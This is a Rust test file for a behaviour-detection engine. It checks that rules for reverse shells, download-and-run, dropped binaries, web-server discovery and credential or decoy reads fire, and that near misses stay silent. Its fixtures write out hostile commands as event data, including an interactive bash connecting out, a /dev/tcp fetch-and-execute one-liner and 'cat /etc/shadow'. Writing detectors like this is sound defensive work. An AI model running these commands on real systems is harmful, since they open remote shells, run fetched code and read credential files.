//! The other behaviour rules: each fires on its stream, and the near miss beside it stays silent.

use super::stream::Stream;
use event::{Exec, FileOp, Severity};

#[test]
fn interactive_shell_connects() {
    let mut s = Stream::new();
    s.exec(10, 1, "/usr/bin/bash", "bash -i").connect(10, "127.0.0.1:4444");
    s.told(&["behaviour.reverse-shell"]);
    assert!(s.findings[0].detail.contains("connected out to 127.0.0.1:4444"));
}

#[test]
fn shell_below_a_connected_interpreter() {
    let mut s = Stream::new();
    s.exec(10, 1, "/usr/bin/python3.11", "python3 -c …").connect(10, "192.0.2.7:443").fork(10, 11).wait(300);
    s.exec(11, 10, "/usr/bin/dash", "/bin/sh -i");
    s.told(&["behaviour.reverse-shell"]);
    assert!(
        s.findings[0].detail.contains("after python3.11 connected out to 192.0.2.7:443"),
        "{}",
        s.findings[0].detail
    );
}

#[test]
fn interpreter_that_becomes_a_shell() {
    let mut s = Stream::new();
    s.exec(10, 1, "/usr/bin/perl", "perl -e …").connect(10, "[2001:db8::7]:443").exec(10, 1, "/usr/bin/bash", "bash");
    s.told(&["behaviour.reverse-shell"]);
    let mut s = Stream::new();
    s.exec(10, 1, "/home/u/implant", "./implant").connect(10, "192.0.2.7:443").exec(11, 10, "/usr/bin/dash", "sh");
    s.told(&["behaviour.reverse-shell"]);
}

#[test]
fn an_old_connection_or_a_script_is_no_reverse_shell() {
    let mut s = Stream::new();
    s.exec(10, 1, "/usr/bin/python3.11", "python3 app.py").connect(10, "192.0.2.7:443").wait(60_000);
    s.exec(11, 10, "/usr/bin/dash", "sh").connect(10, "192.0.2.7:443").exec(12, 10, "/usr/bin/dash", "sh backup.sh");
    s.told(&[]);
}

#[test]
fn downloaded_and_run() {
    let mut s = Stream::new();
    s.exec(10, 1, "/usr/bin/curl", "curl -o /tmp/p").connect(10, "127.0.0.1:8000").create(10, "/tmp/p").wait(1_000);
    s.exec(11, 1, "/tmp/p", "/tmp/p");
    s.told(&["behaviour.download-and-run"]);
    assert!(s.findings[0].detail.contains("curl had fetched /tmp/p from 127.0.0.1:8000"), "{}", s.findings[0].detail);
}

#[test]
fn downloaded_renamed_and_run_as_a_script() {
    let mut s = Stream::new();
    s.exec(10, 1, "/usr/bin/python3.11", "python3 f.py").connect(10, "192.0.2.7:80").create(10, "/tmp/a.part");
    s.rename(10, "/tmp/a.part", "/tmp/a.sh");
    let exec = Exec { script: Some("/tmp/a.sh".into()), ..Exec::default() };
    s.exec_as(11, 1, "/usr/bin/dash", "/bin/sh /tmp/a.sh", exec);
    s.told(&["behaviour.download-and-run"]);
}

/// What the self-test does: bash opens the connection, a forked child writes, the file is run.
#[test]
fn fetched_by_a_shell_alone() {
    let mut s = Stream::new();
    s.exec(10, 9, "/usr/bin/bash", "bash -c exec 3<>/dev/tcp/127.0.0.1/8000; cat <&3 >/tmp/p; /tmp/p");
    s.connect(10, "127.0.0.1:8000").fork(10, 11).create(11, "/tmp/p").exec(11, 10, "/usr/bin/cat", "cat");
    s.fork(10, 12).exec(12, 10, "/tmp/p", "/tmp/p");
    s.told(&["behaviour.download-and-run"]);
}

/// A log-in whose server asked a directory first.
#[test]
fn a_log_in_is_no_reverse_shell() {
    let mut s = Stream::new();
    s.exec(10, 1, "/usr/sbin/sshd", "sshd: u").connect(10, "192.0.2.1:389").fork(10, 11).exec(
        11,
        10,
        "/usr/bin/bash",
        "-bash",
    );
    s.told(&[]);
}

#[test]
fn a_tool_fetched_into_the_home_folder_is_medium() {
    let mut s = Stream::new();
    s.exec(10, 1, "/usr/bin/wget", "wget tool").connect(10, "192.0.2.7:80").create(10, "/home/u/tool");
    s.exec(11, 1, "/home/u/tool", "./tool");
    s.told(&["behaviour.download-and-run"]);
    assert_eq!(s.findings[0].severity, Severity::Medium);
}

#[test]
fn dropped_and_run() {
    let mut s = Stream::new();
    s.exec(10, 1, "/usr/bin/cp", "cp").create(10, "/dev/shm/x").exec(11, 1, "/dev/shm/x", "x");
    s.told(&["behaviour.dropped-and-run"]);
    let mut s = Stream::new();
    s.exec(10, 1, "/usr/bin/cp", "cp").create(10, "/dev/shm/x").wait(700_000).exec(11, 1, "/dev/shm/x", "x");
    s.told(&[]);
}

#[test]
fn below_a_web_server() {
    let mut s = Stream::new();
    s.exec(10, 1, "/usr/sbin/nginx", "nginx: worker process").exec(11, 10, "/usr/bin/dash", "sh -c …");
    s.exec(12, 11, "/usr/bin/id", "id").exec(13, 11, "/usr/bin/id", "id").exec(14, 11, "/usr/bin/uname", "uname -a");
    s.told(&[]);
    s.exec(15, 11, "/usr/bin/whoami", "whoami");
    s.told(&["behaviour.web-discovery"]);
    s.exec(16, 11, "/usr/bin/cat", "cat /etc/shadow").file(16, FileOp::OpenRead, "/etc/shadow");
    // Another process of the same kind is another to be stopped.
    s.told(&["behaviour.web-discovery", "behaviour.web-discovery", "behaviour.web-credentials"]);
}

#[test]
fn decoys() {
    let mut s = Stream::new();
    s.exec(10, 1, "/usr/bin/cat", "cat").file(10, FileOp::OpenRead, "/srv/decoy/passwords.txt");
    s.file(10, FileOp::OpenRead, "/srv/decoy/other.txt");
    s.told(&["behaviour.decoy-read"]);
}

#[test]
fn what_was_held_back_is_counted() {
    let mut s = Stream::new();
    s.exec(10, 1, "/usr/bin/bash", "bash -i");
    (0..5).for_each(|_| {
        s.connect(10, "127.0.0.1:4444");
    });
    s.wait(61_000).connect(10, "127.0.0.1:4444");
    s.told(&["behaviour.reverse-shell"; 2]);
    assert!(s.findings[1].detail.ends_with("Held back since it was last told: 4 more."), "{}", s.findings[1].detail);
}

#[test]
fn a_flood_does_not_blind_it() {
    let mut s = Stream::new();
    for n in 0..40_000u32 {
        s.exec(10 + n, 1, "/usr/bin/true", "true")
            .connect(10 + n, "127.0.0.1:80")
            .create(10 + n, &format!("/tmp/f{n}.zzq"));
    }
    // Its bounds are tested where they stand; this shows that a flood neither stops nor confuses it.
    s.exec(1_000_000, 1, "/usr/bin/bash", "bash -i").connect(1_000_000, "127.0.0.1:4444");
    assert_eq!(s.findings.last().map(|f| f.rule_id.as_str()), Some("behaviour.reverse-shell"));
}
